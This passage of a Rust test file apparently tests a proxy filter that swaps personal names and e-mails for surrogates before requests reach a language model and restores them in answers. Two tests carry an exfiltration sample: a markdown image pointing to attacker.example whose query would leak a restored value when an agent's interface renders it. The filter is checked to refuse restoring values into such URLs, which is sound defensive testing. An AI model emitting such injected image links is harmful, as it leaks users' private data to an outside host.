    let worker = worker_with(&host, r#", "restoreScope": "vault""#);
    let answer = exchange_once(&host, &worker, "hello", "Laura Bianchi");
    assert!(answer.contains("Mario Rossi"), "{answer}");
}

#[test]
fn a_value_sent_in_a_header_is_in_scope_too() {
    let host = ready_host();
    let worker = worker_with(&host, "");
    let mut ex = Exchange::new(Rc::clone(&worker));
    let mut headers = CHAT.to_vec();
    headers.push(("x-user-name", "Mario Rossi"));
    assert_eq!(
        send(&host, &mut ex, &headers, &chat("hello")),
        Flow::Continue
    );
    let answer = br#"{"text":"Laura Bianchi"}"#;
    host.set_response(&[("content-type", "application/json")], answer);
    ex.on_response_headers(&host, false);
    ex.on_response_body(&host, answer.len(), true);
    let out = String::from_utf8(host.response_body.borrow().clone()).unwrap();
    assert!(out.contains("Mario Rossi"), "{out}");
}

#[test]
fn a_value_is_not_restored_into_a_url_unless_its_host_is_allowed() {
    // Exfiltration: an injected image whose URL carries a surrogate would
    // send the value to its host as soon as the agent's UI renders it.
    let answer = "Hi Laura Bianchi ![logo](https://attacker.example/p.png?u=Laura Bianchi)";
    let host = ready_host();
    let worker = worker_with(&host, "");
    let out = exchange_once(&host, &worker, "I am Mario Rossi", answer);
    let text: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(
        text["text"],
        "Hi Mario Rossi ![logo](https://attacker.example/p.png?u=Laura Bianchi)"
    );
    assert_eq!(host.metric(metrics::RESTORE_DECLINED_URL), 1);
    assert_eq!(host.metric(metrics::RESTORED), 1);
    // Allowed host: restored there too.
    let host = ready_host();
    let worker = worker_with(&host, r#", "restoreIntoUrls": ["attacker.example"]"#);
    let out = exchange_once(&host, &worker, "I am Mario Rossi", answer);
    assert!(!out.contains("Laura"), "{out}");
    assert_eq!(host.metric(metrics::RESTORE_DECLINED_URL), 0);
}

#[test]
fn a_url_split_across_stream_events_keeps_its_value_out() {
    let stream = concat!(
        "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"Hi Laura Bianchi, see ![x](https://attac\"}}]}\n\n",
        "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"ker.example/p.png?u=Laura Bia\"}}]}\n\n",
        "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"nchi) ok\"},\"finish_reason\":\"stop\"}]}\n\n",
        "data: [DONE]\n\n"
    );
    let host = ready_host();
    let worker = worker_with(&host, "");
    let mut ex = Exchange::new(Rc::clone(&worker));
    assert_eq!(
        send(&host, &mut ex, CHAT, &chat("I am Mario Rossi")),
        Flow::Continue
    );
    host.set_response(&[("content-type", "text/event-stream")], b"");
    ex.on_response_headers(&host, false);
    let mut out = String::new();
    for event in stream.split_inclusive("\n\n") {
        *host.response_body.borrow_mut() = event.as_bytes().to_vec();
        ex.on_response_body(&host, event.len(), false);
        out.push_str(&String::from_utf8(host.response_body.borrow().clone()).unwrap());
    }
    host.response_body.borrow_mut().clear();
    ex.on_response_body(&host, 0, true);
    out.push_str(&String::from_utf8(host.response_body.borrow().clone()).unwrap());
    let text: String = out
        .lines()
        .filter_map(|l| l.strip_prefix("data: "))
        .filter_map(|d| serde_json::from_str::<serde_json::Value>(d).ok())
        .filter_map(|v| {
            v["choices"][0]["delta"]["content"]
                .as_str()
                .map(String::from)
        })
        .collect();
    assert_eq!(
        text,
        "Hi Mario Rossi, see ![x](https://attacker.example/p.png?u=Laura Bianchi) ok"
    );
    assert_eq!(host.metric(metrics::RESTORE_DECLINED_URL), 1);
}

#[test]
fn masking_is_timed_once_per_forwarded_request() {
    let host = ready_host();
    // Each clock read moves 5 µs: a timed step is one step.
    host.envoy.clock_step_us.set(5);
    let mut ex = Exchange::new(worker_with(&host, ""));
    assert_eq!(
        send(&host, &mut ex, CHAT, &chat("Mario Rossi")),
        Flow::Continue
    );
    // Headers then body, each timed once.
    assert_eq!(host.samples(metrics::MASK_DURATION), vec![10]);
    // Headers only (no body): timed and recorded at once.
    let mut ex = Exchange::new(worker_with(&host, ""));
    host.set_request(CHAT, b"");
    assert_eq!(ex.on_request_headers(&host, true), Flow::Continue);
    assert_eq!(host.samples(metrics::MASK_DURATION), vec![10, 5]);
    // A refused request is not a masking sample.
    let mut ex = Exchange::new(worker_with(&host, ""));
    send(&host, &mut ex, CHAT, b"{not json");
    assert_eq!(host.samples(metrics::MASK_DURATION), vec![10, 5]);
}

#[test]
fn the_entries_callout_is_timed_from_dispatch_to_answer() {
    let host = ready_host();
    let mut ex = Exchange::new(worker_with(&host, ""));
    let body = chat(&format!("mail {NEW_MAIL}"));
    assert_eq!(send(&host, &mut ex, CHAT, &body), Flow::Pause);
    host.advance(42);
    let token = host.last_callout().unwrap().token;
    let answer = CalloutAnswer {
        status: 503,
        body: vec![],
        etag: None,
        body_left: 0,
    };
    ex.on_callout(&host, token, &answer);
    assert_eq!(
        host.samples(metrics::ENTRIES_CALLOUT_DURATION),
        vec![42_000]
    );
    // An answer to another token is not this exchange's callout.
    ex.on_callout(&host, token + 1, &answer);
    assert_eq!(host.samples(metrics::ENTRIES_CALLOUT_DURATION).len(), 1);
}

#[test]
fn restoring_is_timed_once_per_answer_over_its_chunks() {
    let host = ready_host();
    let mut ex = Exchange::new(worker_with(&host, ""));
    send(&host, &mut ex, CHAT, &chat("Mario Rossi"));
    host.envoy.clock_step_us.set(3);
    host.set_response(&[("content-type", "text/event-stream")], b"");
    assert_eq!(ex.on_response_headers(&host, false), Flow::Continue);
    let events = [
        "data: {\"choices\":[{\"delta\":{\"content\":\"Laura \"}}]}\n\n",
        "data: {\"choices\":[{\"delta\":{\"content\":\"Bianchi\"}}]}\n\n",
        "data: [DONE]\n\n",
    ];
    for (i, event) in events.iter().enumerate() {
        *host.response_body.borrow_mut() = event.as_bytes().to_vec();
        let last = i == events.len() - 1;
        ex.on_response_body(&host, event.len(), last);
        let recorded = host.samples(metrics::RESTORE_DURATION);
        assert_eq!(recorded, if last { vec![9] } else { vec![] }, "chunk {i}");
    }
    assert_eq!(host.metric(metrics::RESTORED), 1);
}

#[test]
fn a_catch_up_that_reads_something_new_is_timed() {
    let host = ready_host();
    let worker = worker_with(&host, "");
    host.envoy.clock_step_us.set(7);
    worker.catch_up(&host);
    assert_eq!(host.samples(metrics::CATCH_UP_DURATION), vec![7]);
    // Nothing new published: the cheap check, not timed.
    worker.catch_up(&host);
    assert_eq!(host.samples(metrics::CATCH_UP_DURATION), vec![7]);
}

#[test]
fn refused_entries_calls_are_named_by_their_cause() {
    let cases: [(u16, &[u8], &str); 4] = [
        (401, b"", "latet_token_refused"),
        (
            403,
            br#"{"error":"key_disabled","message":"m"}"#,
            "latet_key_disabled",
        ),
        (
            403,
            br#"{"error":"forbidden","message":"m"}"#,
            "latet_token_refused",
        ),
        (503, b"", "latet_entries_unavailable"),
    ];
    for (status, body, error_type) in cases {
        let host = ready_host();
        let mut ex = Exchange::new(worker_with(&host, ""));
        let sent = chat(&format!("mail {NEW_MAIL}"));
        send(&host, &mut ex, CHAT, &sent);
        let token = host.last_callout().unwrap().token;
        let answer = CalloutAnswer {
            status,
            body: body.to_vec(),
            etag: None,
            body_left: 0,
        };
        ex.on_callout(&host, token, &answer);
        let replies = host.replies.borrow();
        assert_eq!(replies[0].0, 503, "status {status}");
        assert!(replies[0].1.contains(error_type), "{}", replies[0].1);
        assert_eq!(*host.request_body.borrow(), sent, "nothing forwarded");
        // The log names the cause with the status, never the value.
        let logs = host.all_logs();
        assert!(
            logs.contains(&format!("status {status} ({error_type})")),
            "{logs}"
        );
        assert!(!logs.contains(NEW_MAIL), "{logs}");
    }
    // A controlCluster Envoy does not know: the dispatch is refused.
    let host = ready_host();
    host.dispatch_fails.set(true);
    let mut ex = Exchange::new(worker_with(&host, ""));
    send(&host, &mut ex, CHAT, &chat(&format!("mail {NEW_MAIL}")));
    assert_eq!(host.replies.borrow()[0].0, 503);
    assert!(host.replies.borrow()[0]
        .1
        .contains("latet_control_cluster_unknown"));
    assert!(host
        .all_logs()
        .contains("no cluster named \"latet_control\" (controlCluster)"));
}

#[test]
fn without_a_snapshot_the_sync_cause_names_the_refusal() {
    use crate::shared::SYNC_CAUSE_KEY;
    let cases = [
        (None, "latet_vault_not_ready"),
        (Some("latet_token_refused"), "latet_token_refused"),
        (Some("latet_key_disabled"), "latet_key_disabled"),
        (
            Some("latet_control_cluster_unknown"),
            "latet_control_cluster_unknown",
        ),
        // Only sync causes are taken from shared data.
        (Some("latet_body_too_large"), "latet_vault_not_ready"),
        (Some(""), "latet_vault_not_ready"),
    ];
    for (cause, error_type) in cases {
        let host = FakeHost::alone();
        if let Some(cause) = cause {
            host.put_shared(SYNC_CAUSE_KEY, cause.as_bytes());
        }
        let mut ex = Exchange::new(worker_with(&host, ""));
        host.set_request(CHAT, &chat("hello"));
        assert_eq!(ex.on_request_headers(&host, false), Flow::Pause);
        let replies = host.replies.borrow();
        assert_eq!(replies[0].0, 503);
        assert!(
            replies[0].1.contains(error_type),
            "{cause:?}: {}",
            replies[0].1
        );
    }
}

/// `count` distinct new e-mail addresses, and their entries.
fn many_new_mails(count: usize) -> (Vec<String>, Vec<latet_core::wire::Entry>) {
    let mails: Vec<String> = (0..count).map(|i| format!("person{i}@gmail.com")).collect();
    let entries = mails
        .iter()
        .enumerate()
        .map(|(i, mail)| {
            let mut id = [0u8; 16];
            id[..8].copy_from_slice(&(i as u64 + 1000).to_le_bytes());
            latet_core::wire::Entry {
                id: latet_core::wire::EntryId(id),
                value: mail.clone(),
                surrogate: format!("stand{i}.in@gmail.com"),
                kind: Kind::Email,
                generation: 1,
            }
        })
        .collect();
    (mails, entries)
}

fn entries_for(request: &EntriesRequest, all: &[latet_core::wire::Entry]) -> CalloutAnswer {
    let entries = request
        .values
        .iter()
        .map(|v| all.iter().find(|e| e.value == v.value).unwrap().clone())
        .collect();
    let answer = latet_core::wire::EntriesResponse {
        version: 1,
        generation: 1,
        entries,
    };
    CalloutAnswer {
        status: 200,
        body: serde_json::to_vec(&answer).unwrap(),
        etag: None,
        body_left: 0,
    }
}

#[test]
fn more_new_values_than_one_call_carries_are_asked_for_in_chunks() {
    let host = ready_host();
    let mut ex = Exchange::new(worker_with(&host, ""));
    let (mails, entries) = many_new_mails(2_500);
    send(&host, &mut ex, CHAT, &chat(&mails.join(" ")));
    let mut sizes = Vec::new();
    for _ in 0..3 {
        let call = host.last_callout().unwrap();
        let request: EntriesRequest = serde_json::from_slice(call.body.as_ref().unwrap()).unwrap();
        sizes.push(request.values.len());
        ex.on_callout(&host, call.token, &entries_for(&request, &entries));
    }
    assert_eq!(sizes, [1_000, 1_000, 500]);
    assert_eq!(host.resumed.get(), 1);
    assert!(host.replies.borrow().is_empty());
    let sent = request_body(&host);
    assert!(!mails.iter().any(|m| sent.contains(m.as_str())));
    assert!(sent.contains("stand2499.in@gmail.com"));
}

#[test]
fn entries_calls_that_make_no_progress_stop() {
    let host = ready_host();
    let mut ex = Exchange::new(worker_with(&host, ""));
    let (mails, entries) = many_new_mails(1_500);
    send(&host, &mut ex, CHAT, &chat(&mails.join(" ")));
    // The control service answers, but for values not asked.
    let unrelated = EntriesRequest {
        version: 1,
        values: vec![NewValue {
            value: mails[0].clone(),
            kind: Kind::Email,
        }],
    };
    let mut wrong = entries_for(&unrelated, &entries);
    wrong.body = String::from_utf8(wrong.body)
        .unwrap()
        .replace("person0@", "other0@")
        .into_bytes();
    let mut calls = 0;
    while host.replies.borrow().is_empty() && calls < 20 {
        calls += 1;
        let token = host.last_callout().unwrap().token;
        ex.on_callout(&host, token, &wrong);
    }
    assert_eq!(calls, usize::from(MAX_ENTRIES_CALLOUTS));
    assert_eq!(host.replies.borrow()[0].0, 503);
    assert_eq!(host.resumed.get(), 0);
}

#[test]
fn a_surrogate_the_worker_had_not_heard_of_stays_as_written() {
    // Another worker's entries call made elena.fontana@… the surrogate of
    // NEW_MAIL; this worker's feed has not brought it yet, so it asks for
    // the "new" address and the control service answers with its own
    // entry: the surrogate is then known, left as written, not restored.
    let host = ready_host();
    let mut ex = Exchange::new(worker_with(&host, ""));
    let sent = chat("mail elena.fontana@gmail.com now");
    assert_eq!(send(&host, &mut ex, CHAT, &sent), Flow::Pause);
    let call = host.last_callout().unwrap();
    ex.on_callout(&host, call.token, &entries_answer(1));
    assert_eq!(host.callouts.borrow().len(), 1, "asked once");
    assert_eq!(host.resumed.get(), 1);
    assert!(request_body(&host).contains("mail elena.fontana@gmail.com now"));
    let answer = br#"{"choices":[{"message":{"content":"Wrote to elena.fontana@gmail.com."}}]}"#;
    host.set_response(&[("content-type", "application/json")], answer);
    ex.on_response_headers(&host, false);
    ex.on_response_body(&host, answer.len(), true);
    let body = String::from_utf8(host.response_body.borrow().clone()).unwrap();
    assert!(!body.contains(NEW_MAIL), "{body}");
}

/// The host calls one typical exchange makes, by kind: headers, a body in
/// one piece with a known value masked, a whole JSON answer with its
/// surrogate restored. The worker is warm (its vault current).
fn typical_exchange_host_calls(
    host: &FakeHost,
    worker: &Rc<Worker>,
) -> BTreeMap<&'static str, u64> {
    host.take_host_calls();
    let mut ex = Exchange::new(Rc::clone(worker));
    let text = "Please write to Mario Rossi about the renewal of the contract.";
    assert_eq!(send(host, &mut ex, CHAT, &chat(text)), Flow::Continue);
    assert!(request_body(host).contains("Laura Bianchi"));
    let answer = chat_answer_body("I wrote to Laura Bianchi.");
    host.set_response(
        &[
            ("content-type", "application/json"),
            ("content-length", "60"),
        ],
        &answer,
    );
    assert_eq!(ex.on_response_headers(host, false), Flow::Continue);
    assert_eq!(
        ex.on_response_body(host, answer.len(), true),
        Flow::Continue
    );
    let restored = String::from_utf8(host.response_body.borrow().clone()).unwrap();
    assert!(restored.contains("Mario Rossi"), "{restored}");
    host.take_host_calls()
}

fn chat_answer_body(text: &str) -> Vec<u8> {
    serde_json::json!({"choices": [{"index": 0, "message": {"role": "assistant", "content": text}}]})
        .to_string()
        .into_bytes()
}

/// The host calls of a typical request, counted per kind (the filter's
/// fixed cost per request beyond buffering is mostly these). Fails when a
/// change adds a host call to every request: lower the figure when one is
/// removed, and justify raising it.
const TYPICAL_EXCHANGE_HOST_CALLS: u64 = 26;

#[test]
fn a_typical_exchange_makes_no_more_host_calls_than_counted() {
    let host = ready_host();
    let worker = worker_with(&host, "");
    // The first one brings the vault current (reads the snapshot).
    typical_exchange_host_calls(&host, &worker);
    let calls = typical_exchange_host_calls(&host, &worker);
    let total: u64 = calls.values().sum();
    println!("host calls of a typical exchange: {total} {calls:?}");
    assert!(
        total <= TYPICAL_EXCHANGE_HOST_CALLS,
        "{total} host calls, at most {TYPICAL_EXCHANGE_HOST_CALLS}: {calls:?}"
    );
}
